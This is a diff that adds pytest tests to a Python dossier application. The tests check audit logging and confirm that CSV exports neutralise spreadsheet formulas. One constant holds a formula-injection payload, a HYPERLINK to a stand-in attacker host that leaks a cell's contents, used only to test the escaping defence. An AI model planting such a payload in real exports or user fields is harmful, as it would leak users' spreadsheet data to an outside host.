@@ -20,6 +20,7 @@ from dossier.keys import load_keys
 from dossier.models import AuditChainHead, AuditCheckpoint, AuditEvent
 from dossier.services import accounts, audit_views, dossiers, entries
 from dossier.services.context import Context
+from dossier.services.export import export_zip
 from tests.conftest import PASSWORD, login_actor, wipe
 from tests.support import as_database_owner
 
@@ -335,3 +336,81 @@ def test_writers_on_many_dossiers_at_once_leave_intact_chains(keyed: Context, en
     assert counts[chain_for(owners[0][1].id)] == 1 + 18
     assert all(counts[chain_for(d.id)] == 1 + 6 for _o, d in owners[1:])
     assert _report(ctx).ok
+
+
+FORMULA_NAME = '=HYPERLINK("https://evil.example/?"&A1,"Anne")'
+
+
+def test_the_csv_export_shows_formulas_as_text_and_the_json_keeps_them(shared_world) -> None:  # type: ignore[no-untyped-def]
+    """OWASP CSV injection: a name that a spreadsheet would run reaches the auditor as text."""
+    import csv
+    import io
+
+    w = shared_world
+    ctx = w["ctx"]
+    accounts.register(
+        ctx, accounts.NewAccount("mallory@example.nl", PASSWORD, FORMULA_NAME, "parent")
+    )
+    mallory = login_actor(ctx, "mallory@example.nl")
+    filters = audit_views.EventFilters(actor=str(mallory.user_id))
+    rows = list(
+        csv.DictReader(io.StringIO(audit_views.export(ctx, w["auditor"], filters, "csv").decode()))
+    )
+    assert rows and {row["actor_name"] for row in rows} == {"'" + FORMULA_NAME}
+    for row in rows:
+        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row.values())
+    exported = json.loads(audit_views.export(ctx, w["auditor"], filters, "json"))
+    assert {event["actor_name"] for event in exported} == {FORMULA_NAME}
+
+
+def _logged(ctx: Context, action: str) -> list[AuditEvent]:
+    with ctx.unit_of_work() as db:
+        return list(
+            db.scalars(
+                select(AuditEvent).where(AuditEvent.action == action).order_by(AuditEvent.at)
+            )
+        )
+
+
+def test_listing_dossiers_reads_their_names_and_logs_it_in_each_dossier(shared_world) -> None:  # type: ignore[no-untyped-def]
+    w = shared_world
+    ctx = w["ctx"]
+    brother = dossiers.create_dossier(ctx, w["marieke"], "Tim", date(2016, 5, 1), for_self=False)
+    [seen] = dossiers.list_dossiers(ctx, w["anne"])
+    assert seen.subject_name == "Sanne" and seen.sections
+    [event] = _logged(ctx, "dossier.list")
+    assert (event.actor_id, event.dossier_id, event.outcome) == (
+        w["anne"].user_id,
+        w["dossier"],
+        "success",
+    )
+    assert event.chain == chain_for(w["dossier"]) and event.basis == f"grant:{w['grant']}"
+    assert event.object_type == "dossier" and event.object_id == str(w["dossier"])
+    # One event per listed dossier, in that dossier's own chain, on every call.
+    dossiers.list_dossiers(ctx, w["marieke"])
+    dossiers.list_dossiers(ctx, w["anne"])
+    by_marieke = [e for e in _logged(ctx, "dossier.list") if e.actor_id == w["marieke"].user_id]
+    assert sorted(e.chain for e in by_marieke) == sorted(
+        [chain_for(w["dossier"]), chain_for(brother.id)]
+    )
+    assert {e.basis for e in by_marieke} == {"ownership:guardian"}
+    assert len(_logged(ctx, "dossier.list")) == 4
+    # The owner sees it under "who looked", and the chains stay intact.
+    log = audit_views.timeline(
+        ctx, w["sanne"], w["dossier"], person=w["anne"].user_id, reads_only=True
+    )
+    assert [i.action for i in log.items].count("dossier.list") == 2
+    assert _report(ctx).ok
+
+
+def test_every_use_case_that_hands_out_names_logs_one_event(shared_world) -> None:  # type: ignore[no-untyped-def]
+    w = shared_world
+    ctx = w["ctx"]
+    before = {action: len(_logged(ctx, action)) for action in ("dossier.open", "dossier.create")}
+    dossiers.get_dossier(ctx, w["anne"], w["dossier"])
+    assert len(_logged(ctx, "dossier.open")) == before["dossier.open"] + 1
+    dossiers.create_dossier(ctx, w["marieke"], "Tim", date(2016, 5, 1), for_self=False)
+    assert len(_logged(ctx, "dossier.create")) == before["dossier.create"] + 1
+    export_zip(ctx, w["sanne"], w["dossier"], lambda data: data.dossier.subject_name)
+    [exported] = _logged(ctx, "dossier.export")
+    assert exported.reason == "1 entries" and exported.actor_id == w["sanne"].user_id
